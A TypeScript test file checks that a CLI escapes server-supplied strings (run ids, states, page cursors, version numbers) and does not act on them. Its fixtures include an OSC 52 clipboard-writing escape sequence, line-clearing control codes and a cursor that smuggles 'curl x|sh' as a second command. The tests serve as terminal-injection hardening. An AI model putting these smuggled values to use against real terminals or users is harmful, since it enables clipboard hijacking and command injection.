import { WrsClient } from '../client';
import { parseInvocation } from './arguments';
import { versionCommand } from './commands/meta';
import { cancelRunCommand, createRunCommand, listRunsCommand } from './commands/runs';
import { EXIT } from './exit-codes';
import type { CliIo } from './io';

const OSC52 = '\x1b]52;c;ZWNobyBwd25lZA==\x07';
const CONTROL = /[\x00-\x08\x0a-\x1f\x7f-\x9f]/;

/** A client whose API answers every request with `body` (status `status`), and what wrs printed. */
function against(body: object, status = 200): { client: WrsClient; io: CliIo; out: string[]; err: string[] } {
  const fetch = (() =>
    Promise.resolve(
      new Response(JSON.stringify(body), { status, headers: { 'content-type': 'application/json', 'x-request-id': 'req-1' } }),
    )) as typeof globalThis.fetch;
  const out: string[] = [];
  const err: string[] = [];
  // Each reading of the clock 10 s on: `runs cancel` re-reads a run not yet canceling once, not for 5 s.
  let now = 0;
  const io: CliIo = {
    env: {},
    home: '/nonexistent',
    interactive: false,
    out: (line) => out.push(line),
    err: (line) => err.push(line),
    status: () => undefined,
    now: () => (now += 10_000),
  };
  return { client: new WrsClient({ baseUrl: 'http://127.0.0.1:1/api/v1', token: 't', fetch }), io, out, err };
}

/** Strings a server (or a proxy in front of it) chose, in the human output of the commands that print them. */
describe('server strings in command output are written out, not acted on', () => {
  it('runs cancel: the run id, and the state a server may not have named in the contract', async () => {
    const canceled = against({ id: `r${OSC52}`, state: 'canceled' }, 202);
    expect(await cancelRunCommand(canceled.client, canceled.io, 'r', false)).toBe(EXIT.ok);
    expect(canceled.out).toEqual(['cancel accepted; run r\\x1b]52;c;ZWNobyBwd25lZA==\\x07 is canceled']);

    const odd = against({ id: 'r', state: `running\r\x1b[2Kall fine` }, 202);
    expect(await cancelRunCommand(odd.client, odd.io, 'r', false)).toBe(EXIT.ok);
    expect(odd.out).toEqual(['cancel accepted; run r was still running\\r\\x1b[2Kall fine when last read (the cancel is on its way)']);
  });

  it('runs list: the next page cursor, written out and quoted so pasting the command runs nothing else', async () => {
    const seen = against({ items: [], nextCursor: `abc;curl x|sh${OSC52}` });
    expect(await listRunsCommand(seen.client, seen.io, parseInvocation(['runs', 'list']))).toBe(EXIT.ok);
    expect(seen.err.at(-1)).toBe("more: wrs runs list --cursor 'abc;curl x|sh\\x1b]52;c;ZWNobyBwd25lZA==\\x07' (with the same filters)");
  });

  it('runs list: an ordinary cursor is printed as it is', async () => {
    const seen = against({ items: [], nextCursor: 'eyJhIjoxfQ.x_-' });
    await listRunsCommand(seen.client, seen.io, parseInvocation(['runs', 'list']));
    expect(seen.err.at(-1)).toBe('more: wrs runs list --cursor eyJhIjoxfQ.x_- (with the same filters)');
  });

  it('runs list --json: the cursor as the API sent it', async () => {
    const seen = against({ items: [], nextCursor: `abc${OSC52}` });
    await listRunsCommand(seen.client, seen.io, parseInvocation(['--json', 'runs', 'list']));
    expect((JSON.parse(seen.out[0]!) as { nextCursor: string }).nextCursor).toBe(`abc${OSC52}`);
  });

  it("version: the server's contract version in the NOT compatible line", async () => {
    const seen = against({ api: 'v1', contractVersion: `9.0.0${OSC52}`, build: { version: 'b', commit: null } });
    expect(await versionCommand(seen.client, seen.io, false)).toBe(EXIT.apiError);
    expect(seen.out.at(-1)).toMatch(
      /^NOT compatible: regenerate or upgrade the client \(server 9\.0\.0\\x1b\]52;c;ZWNobyBwd25lZA==\\x07, pinned /,
    );
    expect(seen.out.join('')).not.toMatch(CONTROL);
  });

  it('runs create: the created run id on stdout and in the line on stderr', async () => {
    const seen = against({ id: `r${OSC52}`, state: 'queued' }, 201);
    const argv = ['runs', 'create', '--image', 'busybox', '--provider', 'auto', '--region', 'auto'];
    expect(await createRunCommand(seen.client, seen.io, parseInvocation(argv))).toBe(EXIT.ok);
    expect(seen.out).toEqual(['r\\x1b]52;c;ZWNobyBwd25lZA==\\x07']);
    expect(seen.err.join('')).not.toMatch(CONTROL);
  });
});
